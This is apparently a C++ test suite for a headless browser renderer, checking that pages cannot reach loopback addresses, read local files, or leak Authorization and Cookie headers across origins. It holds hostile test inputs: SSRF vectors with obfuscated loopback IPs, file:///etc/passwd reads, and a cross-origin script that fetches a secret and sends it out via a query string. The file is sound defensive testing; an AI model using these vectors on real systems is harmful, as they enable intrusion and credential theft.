// Every way in which a page can make its browser ask somebody for something. The server that they are led to
// counts who comes: nobody must.
#include <fmt/format.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include "browser/browser_site.h"

using namespace quarry;
using namespace std::chrono_literals;
using test::BrowserSite;
using test::shared_pool;

namespace {

struct Vector {
    std::string name;
    const char* html;  // {0} is http://127.0.0.1:PORT, {1} ws://127.0.0.1:PORT, {2} http://localhost:PORT
};

const Vector vectors[] = {
    {"an image", R"(<img src="{0}/x.png">)"},
    {"an image by a name that leads there", R"(<img src="{2}/x.png">)"},
    {"an address in other digits",
     R"(<img src="http://2130706433:{3}/x.png"><img src="http://0x7f.1:{3}/y">)"},
    {"a mapped address", R"(<img src="http://[::ffff:127.0.0.1]:{3}/x.png">)"},
    {"a frame", R"(<iframe src="{0}/frame"></iframe>)"},
    {"a style",
     R"(<link rel="stylesheet" href="{0}/x.css"><style>body{{background:url({0}/b.png)}}</style>)"},
    {"a font",
     R"(<style>@font-face{{font-family:f;src:url({0}/f.woff)}} p{{font-family:f}}</style><p>x</p>)"},
    {"a script", R"(<script src="{0}/x.js"></script>)"},
    {"a module", R"(<script type="module">import '{0}/m.js'</script>)"},
    {"a prefetch", R"(<link rel="prefetch" href="{0}/p"><link rel="preload" as="image" href="{0}/q">
        <link rel="preconnect" href="{0}"><link rel="dns-prefetch" href="{2}">)"},
    {"a speculation rule",
     R"(<script type="speculationrules">{{"prerender":[{{"urls":["{0}/s"]}}],"prefetch":[{{"urls":["{0}/t"]}}]}}</script>)"},
    {"fetch", R"(<script>fetch('{0}/f', {{mode: 'no-cors'}}).catch(() => 0)</script>)"},
    {"a request of the old kind",
     R"(<script>const x = new XMLHttpRequest; x.open('POST', '{0}/x'); x.send('a')</script>)"},
    {"a beacon", R"(<script>navigator.sendBeacon('{0}/b', 'a')</script>)"},
    {"an event source", R"(<script>new EventSource('{0}/e')</script>)"},
    {"a WebSocket", R"(<script>new WebSocket('{1}/w')</script>)"},
    {"a worker",
     R"js(<script>new Worker(URL.createObjectURL(new Blob(["fetch('{0}/w',{{mode:'no-cors'}}).catch(()=>0); new WebSocket('{1}/ww')"])))</script>)js"},
    {"a shared worker",
     R"js(<script>new SharedWorker(URL.createObjectURL(new Blob(["fetch('{0}/w',{{mode:'no-cors'}}).catch(()=>0)"])))</script>)js"},
    {"a form",
     R"(<form id="f" method="post" action="{0}/form"><input name="a" value="b"></form><script>f.submit()</script>)"},
    {"another window", R"(<script>window.open('{0}/window')</script>)"},
    {"an object and a video",
     R"(<object data="{0}/o"></object><embed src="{0}/e"><video src="{0}/v" autoplay></video>)"},
    {"a redirected image", R"(<img src="/to?u={0}/x.png">)"},
    {"a redirected fetch", R"(<script>fetch('/to?u={0}/f', {{mode: 'no-cors'}}).catch(() => 0)</script>)"},
    {"WebTransport",
     R"(<script>try {{ new WebTransport('https://127.0.0.1:{3}/wt') }} catch (e) {{}}</script>)"},
};

struct Forbidden : BrowserSite {
    Forbidden() {
        site.on("/to", [](const test::ServerRequest& request, test::Connection& connection) {
            connection.respond(302, {{"Location", request.parameter("u")}}, "");
        });
    }
    std::string html(const char* pattern) const {
        return fmt::format(fmt::runtime(pattern), fmt::format("http://127.0.0.1:{}", forbidden.port()),
                           fmt::format("ws://127.0.0.1:{}", forbidden.port()),
                           fmt::format("http://localhost:{}", forbidden.port()), forbidden.port());
    }
    Result<browser::Rendered> render(const std::string& path) {
        auto wanted = request(path);
        wanted.blocked.media = false;
        wanted.wait_time = 150ms;  // what begins late begins, too
        return shared_pool().render(wanted);
    }
};

}  // namespace

TEST_CASE_FIXTURE(Forbidden, "what a page asks of a forbidden address does not get there") {
    REQUIRE_BROWSER();
    for (const Vector& vector : vectors) {
        CAPTURE(vector.name);
        page("/page", "<!doctype html><h1>page</h1>" + html(vector.html));

        (void)render("/page");

        CHECK(forbidden.count_connections() == 0);
    }
}

TEST_CASE_FIXTURE(Forbidden, "the same pages do get there when the address is allowed") {
    REQUIRE_BROWSER();
    // Otherwise the test above would pass with a browser that does nothing.
    std::size_t reached = 0;
    for (const char* name : {"an image", "fetch", "a WebSocket", "a worker", "a frame"}) {
        const auto* const vector = std::ranges::find_if(
            vectors, [&](const Vector& each) { return each.name == std::string_view(name); });
        page("/page", "<!doctype html><h1>page</h1>" + html(vector->html));
        auto wanted = request("/page");
        wanted.policy.allow_private = true;
        wanted.wait_time = 150ms;

        (void)shared_pool().render(wanted);

        CAPTURE(name);
        CHECK(forbidden.count_connections() > reached);
        reached = forbidden.count_connections();
    }
}

TEST_CASE_FIXTURE(Forbidden, "a page that leads to a forbidden address is refused, however it leads there") {
    REQUIRE_BROWSER();
    page("/meta", html(R"(<meta http-equiv="refresh" content="0;url={0}/secret">)"));
    page("/script", html(R"(<script>location = '{0}/secret'</script>)"));
    page("/name", html(R"(<script>location = '{2}/secret'</script>)"));

    for (const std::string& path : {"/to?u=" + forbidden.url("/secret"), std::string("/meta"),
                                    std::string("/script"), std::string("/name")}) {
        CAPTURE(path);
        const auto rendered = render(path);

        REQUIRE_FALSE(rendered);
        CHECK(rendered.error().code == ErrorCode::refused);
        CHECK(rendered.error().message.contains("loopback"));
    }
    CHECK(forbidden.count_connections() == 0);
}

TEST_CASE_FIXTURE(Forbidden, "a service worker asks no more than its page may") {
    REQUIRE_BROWSER();
    answer("/worker.js", "text/javascript", html(R"(self.addEventListener('install', e => e.waitUntil(
                fetch('{0}/sw', {{mode: 'no-cors'}}).catch(() => 0)));
                self.addEventListener('fetch', e => e.respondWith(fetch('{0}/sw2', {{mode: 'no-cors'}})));)"));
    page("/page",
         R"(<script>navigator.serviceWorker && navigator.serviceWorker.register('/worker.js')</script>)");

    (void)render("/page");

    CHECK(site.count_requests("/worker.js") > 0);
    CHECK(forbidden.count_connections() == 0);
}

TEST_CASE_FIXTURE(Forbidden, "no packet leaves by WebRTC") {
    REQUIRE_BROWSER();
    const int socket = ::socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof address;
    REQUIRE(bind(socket, reinterpret_cast<sockaddr*>(&address), size) == 0);
    REQUIRE(getsockname(socket, reinterpret_cast<sockaddr*>(&address), &size) == 0);
    page("/page", fmt::format(R"(<script>const c = new RTCPeerConnection({{iceServers:
        [{{urls: 'stun:127.0.0.1:{}'}}]}}); c.createDataChannel('x');
        c.createOffer().then(o => c.setLocalDescription(o))</script>)",
                              ntohs(address.sin_port)));

    (void)render("/page");

    char packet[1];
    CHECK(recv(socket, packet, 1, 0) < 0);
    close(socket);
}

TEST_CASE_FIXTURE(Forbidden, "local files are none of a page's business") {
    REQUIRE_BROWSER();
    page("/page", R"(<h1>page</h1><iframe src="file:///etc/passwd"></iframe><img src="file:///etc/passwd">
        <script>fetch('file:///etc/passwd').then(r => r.text()).then(t => document.body.append(t)).catch(() => 0);
        setTimeout(() => location = 'file:///etc/passwd', 20)</script>)");

    const auto rendered = render("/page");

    REQUIRE_MESSAGE(rendered, rendered.error().message);
    CHECK(rendered->html.contains("<h1>page</h1>"));
    CHECK_FALSE(rendered->html.contains("root:"));
    CHECK(rendered->final_url == site.url("/page"));
}

TEST_CASE_FIXTURE(Forbidden, "a user's headers go to the origin they are meant for, and to no other") {
    REQUIRE_BROWSER();
    test::HostileServer other(0, "127.0.0.2");
    other.on("/*", [](const test::ServerRequest&, test::Connection& connection) {
        connection.respond(200, {{"Access-Control-Allow-Origin", "*"}, {"Content-Type", "text/html"}},
                           "other");
    });
    page("/page", fmt::format(R"(<img src="{0}/x.png"><img src="/to?u={0}/redirected"><img src="/own.png">)",
                              other.url("")));
    auto wanted = request("/page");
    wanted.headers = {{"Authorization", "Bearer key"}, {"Cookie", "a=1; b=2"}};

    const auto rendered = shared_pool().render(wanted);

    REQUIRE_MESSAGE(rendered, rendered.error().message);
    for (const auto& received : site.requests()) {
        CAPTURE(received.target);
        CHECK(header_value(received.headers, "authorization") == "Bearer key");
        CHECK(header_value(received.headers, "cookie") == "a=1; b=2");
    }
    CHECK(other.requests().size() == 2);
    for (const auto& received : other.requests()) {
        CAPTURE(received.target);
        CHECK(header_value(received.headers, "authorization") == "");
    }
}

TEST_CASE_FIXTURE(Forbidden,
                  "a page that has gone to another origin takes no headers, and reads nothing with them") {
    REQUIRE_BROWSER();
    test::HostileServer other(0, "127.0.0.2");
    site.on("/secret", [](const test::ServerRequest& received, test::Connection& connection) {
        connection.respond(200, {{"Access-Control-Allow-Origin", "*"}, {"Content-Type", "text/plain"}},
                           "told: " + std::string(header_value(received.headers, "authorization")));
    });
    other.on("/*", [&](const test::ServerRequest&, test::Connection& connection) {
        connection.respond(200, {{"Content-Type", "text/html"}},
                           fmt::format("<p id=p>other</p><script>fetch('{}').then(r => r.text())"
                                       ".then(t => p.textContent = t)</script>",
                                       site.url("/secret")));
    });
    page("/leaves", fmt::format("<script>location = '{}'</script>", other.url("/landed")));
    site.on("/redirects", [&](const test::ServerRequest&, test::Connection& connection) {
        connection.respond(302, {{"Location", other.url("/landed")}}, "");
    });
    for (const char* path : {"/leaves", "/redirects"}) {
        CAPTURE(path);
        auto wanted = request(path);
        wanted.headers = {{"Authorization", "Bearer key"}};

        const auto rendered = shared_pool().render(wanted);

        REQUIRE_MESSAGE(rendered, rendered.error().message);
        CHECK(rendered->final_url == other.url("/landed"));
        CHECK(rendered->html.contains("told: "));
        CHECK_FALSE(rendered->html.contains("Bearer key"));
    }
    for (const auto& received : other.requests())
        CHECK(header_value(received.headers, "authorization") == "");
    CHECK(site.count_requests("/secret") == 2);
}

TEST_CASE_FIXTURE(Forbidden, "a frame of another origin reads nothing with a user's headers") {
    REQUIRE_BROWSER();
    test::HostileServer other(0, "127.0.0.2");
    site.on("/secret", [](const test::ServerRequest& received, test::Connection& connection) {
        connection.respond(200, {{"Access-Control-Allow-Origin", "*"}, {"Content-Type", "text/plain"}},
                           "told: " + std::string(header_value(received.headers, "authorization")));
    });
    other.on("/told", [](const test::ServerRequest&, test::Connection& connection) {
        connection.respond(200, {{"Content-Type", "text/plain"}}, "");
    });
    // Itself, and from a document of its own within it.
    other.on("/frame", [&](const test::ServerRequest&, test::Connection& connection) {
        const std::string script = fmt::format(
            "<script>fetch('{}').then(r => r.text()).then(t => fetch('{}?t=' + "
            "encodeURIComponent(t)))</script>",
            site.url("/secret"), other.url("/told"));
        connection.respond(200, {{"Content-Type", "text/html"}},
                           fmt::format("<p>frame</p>{0}<iframe srcdoc=\"{0}\"></iframe>", script));
    });
    page("/own", "<p>own</p><script>fetch('/secret').then(r => r.text()).then(t => window.t = t)</script>");
    page("/page", fmt::format("<p>page</p><iframe src='{}'></iframe><iframe src='/own'></iframe>",
                              other.url("/frame")));
    auto wanted = request("/page");
    wanted.headers = {{"Authorization", "Bearer key"}};
    wanted.wait_time = 300ms;

    const auto rendered = shared_pool().render(wanted);

    REQUIRE_MESSAGE(rendered, rendered.error().message);
    REQUIRE(other.count_requests("/told") == 2);
    for (const auto& received : other.requests()) {
        CAPTURE(received.target);
        CHECK(header_value(received.headers, "authorization") == "");
        CHECK_FALSE(received.target.contains("Bearer"));
    }
    int with_key = 0;
    for (const auto& received : site.requests())
        with_key += header_value(received.headers, "authorization") == "Bearer key";
    CHECK(with_key == 3);  // the page, its own frame, and what that asks for
}
